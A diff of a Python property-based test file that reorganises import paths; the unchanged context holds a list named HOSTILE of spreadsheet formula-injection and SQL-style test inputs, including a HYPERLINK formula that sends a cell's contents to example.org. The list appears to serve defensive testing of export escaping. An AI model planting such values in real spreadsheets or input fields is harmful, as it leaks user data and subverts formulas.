@@ -9,8 +9,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from helpers.errors import UserError
-from helpers.results import Run
-from helpers.review import read_review, write_review
+from helpers.evaluation.review import read_review, write_review
+from helpers.runs import Run
 
 HOSTILE = [
     '=HYPERLINK("http://example.org?" & A1, "SELECT")', "+1", "-1 OR 1=1", "@SUM(A1:A9)", "\t=1+1", "  =1", "'=1", "'quoted'",
